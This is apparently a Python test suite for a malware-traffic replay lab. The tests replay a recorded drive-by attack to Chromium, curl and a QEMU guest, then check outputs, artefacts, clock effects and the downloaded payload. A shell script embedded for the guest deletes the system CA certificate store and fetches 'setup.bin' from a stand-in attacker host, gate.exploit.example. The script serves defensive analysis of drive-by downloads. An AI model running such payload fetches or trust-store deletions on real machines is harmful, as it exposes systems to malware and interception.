#!/usr/bin/env python3
"""The lab from one end to the other: a fresh Chromium visits the project's own
drive-by, and what comes of it.

usage: lab-run.py SAN_DIR PLAIN_DIR [TEST...]
"""
import concurrent.futures
import csv
import hashlib
import json
import pathlib
import re
import shutil
import subprocess

from lib import eve, lab
from playback import PLAIN, TMP, run, same, true

SETS = pathlib.Path(__file__).resolve().parents[2] / "etc/rules.conf"
ALL = "(100.0 %), 0 requests had no recorded answer"
CAPTURE = lab.make(PLAIN, "lab", "--truth", str(TMP / "truth.tsv"))
TRUTH = list(csv.DictReader(open(TMP / "truth.tsv"), delimiter="\t"))
visits = []


def visit(*options, **more):
    return lab.run(PLAIN, *options, CAPTURE, **more)


def first():
    """A plain visit, made once for all who only look at it."""
    if not visits:
        visits.append(visit())
    return visits[0]


def results(result):
    return [row["result"] for row in result.rows()]


def log(result):
    return eve.read(result.text("replay.jsonl"))


def lines(result, kind):
    return [v for v in map(json.loads, result.text("compare.jsonl")
                           .splitlines()) if v["type"] == kind]


def test_all_of_it_comes_back():
    """P26: a cookie whose Expires lies in the past now decides the way; P34:
    an address that a script computes; P35, P36: CORS and public addresses;
    P37: a name that did not exist."""
    found = first()
    count = len(TRUTH)
    same(found.lines[-1], f"reproduced: {count} of {count} reproducible "
         f"exchanges {ALL}", "the last line")
    same(results(found), ["same"] * count, "results")
    computed = [v for v in lines(found, "address")
                if v["link"] == "computed"]
    same([v["address"] for v in computed], ["203.0.113.66"], "addresses")
    true("203.0.113.66" in found.out, "the address is not told")
    ways = {v["way"] for v in log(found)}
    true({"name", "address"} <= ways, f"ways {ways}")


def test_what_is_kept():
    found = first()
    facts = found.facts
    for name in ("client.pcap", "replay.jsonl", "dnsmasq.log", "dom.html",
                 "screenshot.png", "compare.tsv", "netlog.json"):
        true((found.path / name).stat().st_size > 0, f"{name} is empty")
    png = (found.path / "screenshot.png").read_bytes()
    same(png[:8], b"\x89PNG\r\n\x1a\n", "screenshot")
    indexed = {a["name"]: a["sha256"] for a in facts["artefacts"]}
    for path in found.path.rglob("*"):
        mode = path.stat().st_mode & 0o777
        same(mode, 0o700 if path.is_dir() else 0o600, str(path))
        name = str(path.relative_to(found.path))
        if path.is_file() and name != "run.json":
            same(indexed.get(name), lab.digest(path), name)
    same(facts["state"], "done", "state")
    same(facts["captures"][0]["sha256"], lab.digest(CAPTURE), "capture")
    same(facts["programs"]["replay"]["sha256"],
         lab.digest(PLAIN / "replay"), "replay")
    same(facts["packets_lost"], 0, "packets lost")
    true("hromium" in json.dumps(facts), "no browser in run.json")


def test_the_download():
    want = next(row for row in TRUTH if "update" in row["target"])
    facts = first().facts["downloads"]
    same([d["sha256"] for d in facts], [want["sha256"]], "downloads")
    path = first().path / facts[0]["name"]
    same(lab.digest(path), want["sha256"], "the file")
    true(want["sha256"] in first().out, "its digest is not told")


def table(result):
    """compare.tsv, but for the order of what a page loads side by side: that
    is the browser's and the moment's."""
    return re.sub(r"(; )?asked before #\d+\b(?!, which)", "",
                  result.text("compare.tsv")).replace("\t-\n", "\t\n")


def test_three_runs_are_one():
    with concurrent.futures.ThreadPoolExecutor(2) as pool:
        for result in pool.map(lambda _: visit(), range(2)):
            same(table(result), table(first()), "another run")


def test_the_clock():
    """P26, P27: today the cookie is dead on arrival and the chain breaks,
    told with its place; at the recording's time it goes on (above)."""
    found = visit("--clock", "now")
    same(found.facts["clock"]["recorded"], None, "clock")
    true("not-asked" in results(found), "the clock made no difference")
    true("the chains part at" in found.out, found.out)


def test_again():
    found = first()
    again = TMP / "again"
    result = lab.Result(lab.start(PLAIN, found.path, "--output", again,
                                  command="again"), again)
    same(result.status, 0, result.err)
    same(table(result), table(found), "the table")
    same(result.facts["options"]["captures"],
         found.facts["options"]["captures"], "captures")


def test_again_with_another_capture():
    copy = TMP / "copy.pcap"
    shutil.copyfile(CAPTURE, copy)
    found = lab.run(PLAIN, "--exec", "true", copy)
    with open(copy, "r+b") as file:
        file.seek(-1, 2)
        file.write(b"?")
    result = lab.Result(lab.start(PLAIN, found.path, command="again"), None)
    same(result.status, 1, result.out)
    true("has changed" in result.err, result.err)


def test_matrix():
    clients = ["chromium"] + ["firefox"] * bool(shutil.which("firefox-esr"))
    options = [w for c in clients for w in ("--client", c)]
    runs = TMP / "matrix"
    result = lab.Result(lab.start(PLAIN, *options, "--runs", runs, CAPTURE,
                                  command="matrix"), None)
    same(result.status, 0, result.err)
    head = result.lines[0].split("\t")
    same(head, ["no", "method", "host", "target", *clients], "columns")
    rows = [dict(zip(head, line.split("\t")))
            for line in result.lines[1:] if "\t" in line]
    recorded = [r for r in rows if r["no"] != "-"]
    same(len(recorded), len(TRUTH), "rows")
    same({r["chromium"] for r in recorded}, {"same"}, "chromium")
    for client in clients:
        true(any(line.startswith(f"{client}: reproduced: ")
                 for line in result.lines), f"{client} is not summed up")


def test_recorded_user_agent():
    found = visit("--user-agent", "recorded")
    agent = found.facts["user_agent"]
    true(agent and "Windows" in agent, f"recorded {agent}")
    differs = [d["name"] for v in log(found) for d in v.get("differs", [])
               if "name" in d]
    true("User-Agent" not in differs, "User-Agent differs")


def test_rules():
    """Rules only where they are asked for."""
    conf = TMP / "title.conf"
    conf.write_text("type=text/html path=/ body s{</body>}{<!-- x -->$&}i\n")
    found = visit("--rules", conf)
    true("rewritten" in results(found), str(results(found)))
    same(found.facts["rules"][0]["sha256"], lab.digest(conf), "rules")
    true(str(conf) in json.dumps(found.rows()), "the rule is not named")


def test_the_default_rules():
    found = visit("--rules", SETS)
    true(set(results(found)) <= {"same", "rewritten"}, found.out)


ASK = ("curl -s -o /dev/null -w '%{http_code} ' "
       "http://www.msftconnecttest.com/connecttest.txt; "
       "curl -s http://detectportal.firefox.com/success.txt")


def test_a_program_of_the_table():
    want = next(row for row in TRUTH if "update" in row["target"])
    found = visit("--client", "curl", "--url",
                  f"http://{want['host']}{want['target']}")
    same([d["sha256"] for d in found.facts["downloads"]], [want["sha256"]],
         "downloads")
    same(results(found).count("same"), 1, "results")


def test_p33_connectivity_checks():
    found = lab.run(PLAIN, "--exec", ASK, CAPTURE)
    same(found.text("output.txt").split(), ["200", "success"], "answers")
    same({v["source"] for v in log(found)}, {"supplement"}, "source")
    without = lab.run(PLAIN, "--no-supplement", "--exec", ASK, CAPTURE)
    same(without.text("output.txt").split(), ["000"], "answers")


def test_p42_the_clients_own():
    """Counted apart, and no part of what had no recorded answer."""
    found = lab.run(PLAIN, "--no-supplement", "--exec",
                    "curl -s -H 'Host: ocsp.digicert.com' -d 0 -H "
                    "Content-Type:application/ocsp-request "
                    "http://www.landing.example/; "
                    "curl -s http://www.landing.example/nothing",
                    CAPTURE)
    rows = {v["url"]: v["by_client_itself"] for v in
            lines(found, "exchange") if v["result"] == "not-recorded"}
    same(rows, {"http://ocsp.digicert.com/": True,
                "http://www.landing.example/nothing": False}, "requests")
    true(found.lines[-1].endswith(" 1 requests had no recorded answer"),
         found.lines[-1])


def test_p30_nothing_stays_in_the_client():
    true(not (first().path / "home").exists(), "the profile was kept")
    kept = visit("--keep")
    true((kept.path / "home/profile").is_dir(), "the profile is not there")


def test_shown_on_a_display():
    if not shutil.which("Xvfb"):
        return "Xvfb is not installed"
    display = subprocess.Popen(
        ["Xvfb", ":77", "-screen", "0", "1024x768x24", "-nolisten", "tcp"],
        stderr=subprocess.DEVNULL)
    try:
        lab.wait_for(pathlib.Path("/tmp/.X11-unix/X77"))
        found = visit("--show", env={**lab.os.environ, "DISPLAY": ":77"})
        true(set(results(found)) <= {"same", "not-recorded"}, found.out)
    finally:
        display.terminate()
        display.wait()
    return None


STYLE = "www.landing.example/style.css"
# The guest trusts the authority, then not any more, then its agent brings it.
TASK = f"""
style() {{
    wget -q -O - https://{STYLE} 2> /dev/null | sha256sum | cut -c1-64
}}
say "https: $(style)"
rm /usr/local/share/ca-certificates/* /etc/ssl/certs/ca-certificates.crt
sh /usr/sbin/update-ca-certificates --fresh
say "without: $(style)"
qemu-ga -d -m virtio-serial -p /dev/vport*p1
for _ in $(seq 60); do
    [ -e /etc/ssl/certs/ca-certificates.crt ] && break
    sleep 1
done
say "agent: $(style)"
sleep 3
say "sum: $(wget -q -O - http://gate.exploit.example:8080/load/setup.bin |
    sha256sum | cut -c1-64)"
echo made > /share/made.txt
"""
AGENT = """[machine]
client = machine
image = none
options = -m 384 -device virtio-serial
    -device virtserialport,chardev=agent,name=org.qemu.guest_agent.0
"""


def test_a_machine():
    """The tests' own Linux guest, from DHCP to what it leaves on its disk;
    what it downloads by HTTPS is verified by its store."""
    if not shutil.which("qemu-system-x86_64"):
        return "QEMU is not installed"
    image, why = lab.guest(PLAIN)
    if why:
        return why
    before = lab.digest(image)
    share = TMP / "share"
    share.mkdir()
    (share / "task.sh").write_text(TASK)
    truth = TMP / "drive-by.tsv"
    capture = lab.make(PLAIN, "drive-by", "--truth", str(truth))
    table = TMP / "agent.conf"
    table.write_text(AGENT)
    found = lab.run(PLAIN, "--vm", image, "--share", share, "--time", "300",
                    "--clients", table, capture)
    said = found.text("console.txt")
    rows = list(csv.DictReader(open(truth), delimiter="\t"))
    want, style = (next(row["sha256"] for row in rows if row["method"] == "GET"
                        and row["target"] == target)
                   for target in ("/load/setup.bin", "/style.css"))
    true("guest: clock: 2017-03-14T10:1" in said, said)
    true("guest: address: 10.66.0.2" in said, said)
    true(f"guest: sum: {want}" in said, said)
    true("guest: authority: 1 added, 0 removed; done." in said, said)
    true(f"guest: https: {style}" in said, said)
    true(f"guest: without: {hashlib.sha256().hexdigest()}" in said, said)
    true(f"guest: agent: {style}" in said, said)
    same((found.facts["visit"]["agent"], found.facts["visit"]["authority"]),
         ("installed", True), "the agent")
    true("the authority: installed" in found.err, found.err)
    same(found.text("share/made.txt"), "made\n", "what it left")
    same([r["result"] for r in found.rows() if r["target"]
          == "/load/setup.bin" and r["method"] == "GET"], ["same"], "result")
    same(lab.digest(image), before, "the image")
    same(found.facts["image"]["sha256"], before, "the image in run.json")
    return None


def test_trouble():
    """Plain words and a status, never a traceback."""
    empty = TMP / "empty.pcap"
    empty.write_bytes(b"not a capture")
    for arguments, words in (
            ([empty], "not a capture"), ([TMP / "none.pcap"], "no such file"),
            (["--client", "netscape", CAPTURE], "no client netscape"),
            (["--vm", TMP / "none.qcow2", CAPTURE], "no such file"),
            (["--rules", TMP / "none.conf", CAPTURE], "no such file")):
        result = lab.Result(lab.start(
            PLAIN, "--runs", TMP / "trouble", *arguments), None)
        same(result.status, 1, str(arguments))
        true(words in result.err, result.err)
        true("Traceback" not in result.err, result.err)
        same(result.out, "", "standard output")


lab.need("chromium", "curl")
run([test_all_of_it_comes_back, test_what_is_kept, test_the_download,
     test_three_runs_are_one, test_the_clock, test_again,
     test_again_with_another_capture, test_matrix, test_recorded_user_agent,
     test_rules, test_the_default_rules, test_a_program_of_the_table,
     test_p33_connectivity_checks,
     test_p42_the_clients_own, test_p30_nothing_stays_in_the_client,
     test_shown_on_a_display, test_a_machine, test_trouble])
